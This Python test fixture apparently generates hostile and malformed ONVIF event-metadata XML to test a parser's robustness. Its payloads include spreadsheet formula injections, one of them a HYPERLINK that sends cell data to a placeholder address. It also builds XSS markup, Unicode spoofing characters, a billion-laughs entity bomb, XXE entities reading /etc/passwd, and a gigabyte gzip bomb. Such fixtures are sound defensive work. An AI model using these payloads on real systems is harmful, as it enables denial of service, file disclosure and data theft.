"""Metadata documents and events that mean harm, or are broken. Nothing of vssx in them."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.scene_documents import Occurrence, motion, scene, xs_datetime

_NAMES = (
    'xmlns:tt="http://www.onvif.org/ver10/schema" xmlns:wsnt="http://docs.oasis-open.org/wsn/b-2" '
    'xmlns:tns1="http://www.onvif.org/ver10/topics"'
)
FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "=1+1;=2+2",
    'a;"=1+1',
    'a; "" =1+1',
    '","=1+1","',
    "'=1+1",
)
STEERING = (
    "\x9b2J\x9b31mred",  # CSI in one character: XML can carry it, ESC it cannot
    "\x85next line",
    "\u202egnp.exe",
    "\u2066\u2069isolated",
    "line\u2028separator",
    "first\nsecond\r\nthird",
    "\ufefffirst",
    "\U000e0041tag",
)
MARKUP = ("<script>alert(1)</script>", "]]><x/>", "&lt;b&gt;", '" onload="alert(1)', "<!ENTITY a 'b'>", "--><!--")
VALUES = FORMULAS + STEERING + MARKUP


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One document. ``read``: whether it is a document that can be read, bad as its contents may be; ``tolerated``:
    only by a reader that overlooks faults."""

    name: str
    data: bytes
    read: bool = False
    tolerated: bool = False


def occurrences(utc_ns: int) -> Iterator[Occurrence]:
    """An event for every value: in its source, its key, its data and as the name of an item."""
    for number, value in enumerate(VALUES):
        yield Occurrence(
            utc_ns=utc_ns + number * 1_000_000,
            topic="tns1:UserAlarm/Hostile",
            operation="Changed",
            source=(("Source", value),),
            key=(("Key", value),),
            data=((value, value),),
        )


def documents(utc_ns: int) -> Iterator[Hostile]:
    """All of them; ``utc_ns``: the time that those tell that tell a true one."""
    good = scene(1, utc_ns, occurrences=[motion(utc_ns, True)])
    yield Hostile(name="good", data=good, read=True)
    yield Hostile(name="values", data=scene(2, utc_ns, occurrences=occurrences(utc_ns)), read=True)
    entities = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    bomb = f'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{entities}]>'
    yield Hostile(name="entity bomb", data=bomb.encode() + good.replace(b"Human", b"&m;"))
    quadratic = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'.encode()
    yield Hostile(name="quadratic", data=quadratic + good.replace(b"Human", b"&a;" * 20_000))
    for uri in ("file:///etc/passwd", "http://127.0.0.1:9/"):
        outside = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{uri}">]>'.encode()
        yield Hostile(name=f"entity of {uri}", data=outside + good.replace(b"Human", b"&a;"))
        yield Hostile(name=f"DTD of {uri}", data=f'<!DOCTYPE x SYSTEM "{uri}">'.encode() + good)
    yield Hostile(name="unbalanced", data=good.replace(b"</tt:Frame>", b"", 1))
    yield Hostile(name="cut", data=good[: len(good) // 2])
    yield Hostile(name="not XML", data=b"\x00\x01\x02 no document at all")
    yield Hostile(name="more behind it", data=good + b" and more")
    yield Hostile(name="another root", data=b"<html><body><script>alert(1)</script></body></html>")
    yield Hostile(name="deep", data=good.replace(b"<tt:Frame", b"<a>" * 5000 + b"<tt:Frame", 1))
    yield Hostile(name="many", data=good.replace(b"</tt:Frame>", b"<a/>" * 600_000 + b"</tt:Frame>", 1))
    yield Hostile(name="large", data=good.replace(b"Human", b"A" * (9 << 20)))
    yield Hostile(name="bytes", data=good.replace(b"Human", b"\xc4\xff\xfe"), tolerated=True)
    yield Hostile(name="declared", data=b'<?xml version="1.0" encoding="no-such"?>' + good)
    yield Hostile(name="wrongly declared", data=b'<?xml version="1.0" encoding="UTF-16"?>' + good)
    yield Hostile(name="UTF-7", data=b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-' + good)
    at = xs_datetime(utc_ns).encode()
    for other in (b"1970-01-01T00:00:00Z", b"9999-12-31T23:59:59Z", b"2106-02-07T06:28:16Z"):
        yield Hostile(name=f"at {other.decode()}", data=good.replace(at, other), read=True)
    for other in (b"yesterday", b"", b"2024-13-45T99:99:99Z", b"1" * 5000 + b"-01-01T00:00:00Z"):
        yield Hostile(name=f"at {other[:20].decode()}", data=good.replace(at, other), read=True)
    for topic in (*MARKUP, "tns1:" + "A/" * 2000 + "B", "no:Such/Prefix", "", "a b", "tns1:Über/\u202egnp"):
        document = scene(3, utc_ns, occurrences=[Occurrence(utc_ns=utc_ns, topic=topic, data=(("a", "b"),))])
        yield Hostile(name=f"topic {topic[:20]}", data=document, read=True)
    happened = motion(utc_ns, True).xml()
    for name, cut in (
        ("without topic", happened.replace("wsnt:Topic", "wsnt:Nothing")),
        ("without message", happened.replace("wsnt:Message>", "wsnt:Nothing>")),
        ("without time", happened.replace("UtcTime", "Time")),
        ("another operation", happened.replace("Changed", "<!-- -->".replace("<", "&lt;"))),
        ("large value", happened.replace('Value="true"', f'Value="{"A" * (1 << 20)}"')),
        ("markup inside", happened.replace("</wsnt:Message>", "<x><![CDATA[<script>]]></x></wsnt:Message>")),
    ):
        text = f"<tt:MetadataStream {_NAMES}><tt:Event>{cut}</tt:Event></tt:MetadataStream>"
        yield Hostile(name=name, data=text.encode(), read=True)
    yield Hostile(name="gzip", data=gzip.compress(good, mtime=0), read=True)
    yield Hostile(name="gzip, cut", data=gzip.compress(good, mtime=0)[:-20])
    yield Hostile(name="gzip of a gigabyte", data=gigabyte())
    yield Hostile(name="gzip in gzip", data=gzip.compress(gzip.compress(good, mtime=0), mtime=0))
    yield Hostile(name="EXI", data=b"$EXI\xa0" + bytes(range(200)))
    yield Hostile(name="good again", data=good, read=True)


def gigabyte() -> bytes:
    """A gzip file of a document with a gigabyte of spaces in it, a megabyte long, with the right checksum."""
    block, blocks = b" " * (1 << 20), 1 << 10
    head, tail = b'<tt:MetadataStream xmlns:tt="http://www.onvif.org/ver10/schema">', b"</tt:MetadataStream>"

    def deflated(data: bytes, mode: int) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(data) + packer.flush(mode)

    crc = zlib.crc32(head)
    for _ in range(blocks):
        crc = zlib.crc32(block, crc)
    size = len(head) + len(block) * blocks + len(tail)
    body = deflated(head, zlib.Z_FULL_FLUSH) + deflated(block, zlib.Z_FULL_FLUSH) * blocks
    body += deflated(tail, zlib.Z_FINISH)
    check = zlib.crc32(tail, crc).to_bytes(4, "little") + (size & 0xFFFFFFFF).to_bytes(4, "little")
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + body + check
